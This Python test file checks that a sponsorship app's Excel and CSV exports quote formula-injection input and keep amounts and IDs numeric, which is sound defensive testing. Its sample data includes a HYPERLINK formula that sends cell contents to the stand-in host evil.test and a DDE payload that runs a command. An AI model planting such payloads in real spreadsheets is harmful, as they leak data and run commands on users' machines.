"""Every spreadsheet and CSV the app writes shows a hostile name as text, never as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from sponsorship.extensions import db
from sponsorship.models import Payout
from sponsorship.models.enums import Role
from sponsorship.services.children.excel_export import export_children
from sponsorship.services.children.search import ChildFilters
from sponsorship.services.children.sheet import template_workbook
from sponsorship.services.payouts import bank_file
from sponsorship.services.payouts import review as batches
from sponsorship.services.payouts.build import build_batch
from sponsorship.services.reports.export import statistics_workbook
from sponsorship.services.reports.measures import Period
from sponsorship.services.reports.statistics import statistics_for
from sponsorship.spreadsheet_cells import FORMULA_TRIGGERS, SafeCsvWriter, neutralised
from tests.factories import make_child, make_guardian, make_paid_pairing, make_user, make_village

HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"点我")'
HOSTILE_NAMES = [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(cells, expected_text: str) -> None:
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    found = [c for c in cells if c.value == "'" + expected_text]
    assert found and all(c.data_type == "s" for c in found)


@given(st.text(max_size=30) | st.integers() | st.floats(allow_nan=False) | st.none())
def test_only_text_that_starts_like_a_formula_is_quoted(value):
    result = neutralised(value)
    if isinstance(value, str) and value[:1] in {"=", "+", "-", "@", "\t", "\r"}:
        assert result == "'" + value
    else:
        assert result is value  # numbers stay numbers, other text is untouched


def test_the_triggers_are_the_owasp_list():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_the_children_export_writes_hostile_names_and_guardians_as_text():
    staff = make_user(Role.ADMIN)
    for name in HOSTILE_NAMES:
        make_child(name=name, guardian=make_guardian(name=name, collector=staff))
    data = export_children(staff, ChildFilters()).getvalue()
    cells = _cells(data)
    for name in HOSTILE_NAMES:
        _assert_no_formula(cells, name)
    assert any(isinstance(c.value, int) and c.column == 1 for c in cells)  # ids stay numbers


def _approved_batch_with_hostile_guardian():
    pairing = make_paid_pairing()
    pairing.child.guardian.name = HOSTILE
    pairing.child.guardian.bank_name = "@农商银行"
    staff, finance = make_user(Role.STAFF), make_user(Role.FINANCE)
    batch = build_batch("2026-09", date(2026, 9, 1), by=staff)
    batches.submit(batch, by=staff)
    batches.approve(batch, by=finance)
    return batch, finance


def test_the_bank_file_csv_quotes_hostile_cells_and_keeps_amounts():
    batch, finance = _approved_batch_with_hostile_guardian()
    data, _name = bank_file.export(batch, "csv", by=finance)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + HOSTILE and rows[1][2] == "'@农商银行"
    assert rows[1][4] == "1000.00"


def test_the_bank_file_xlsx_writes_hostile_cells_as_strings_and_amounts_as_numbers():
    batch, finance = _approved_batch_with_hostile_guardian()
    data, _name = bank_file.export(batch, "xlsx", by=finance)
    cells = _cells(data)
    _assert_no_formula(cells, HOSTILE)
    _assert_no_formula(cells, "@农商银行")
    payout = db.session.scalar(sa.select(Payout))
    amount = next(c for c in cells if c.row == 2 and c.column == 5)
    assert amount.value == payout.amount_fen / 100 and amount.data_type == "n"


def test_the_statistics_export_writes_a_hostile_town_name_as_text():
    village = make_village(town="=1+1镇")
    pairing = make_paid_pairing(region=village)
    stats = statistics_for(Period(date(2026, 1, 1), date(2026, 12, 31)), None)
    assert pairing.child.region.parent.name == "=1+1镇"
    _assert_no_formula(_cells(statistics_workbook(stats).getvalue()), "=1+1镇")


def test_the_import_template_lists_a_hostile_town_as_text():
    _assert_no_formula(_cells(template_workbook(["=1+1镇", "平山街道"]).getvalue()), "=1+1镇")


def test_the_safe_csv_writer_quotes_each_field_it_writes():
    out = io.StringIO()
    SafeCsvWriter(out).writerows([["=1", 2, "a"], ["\r=2", "-", "b"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1", "2", "a"],
        ["'\r=2", "'-", "b"],
    ]
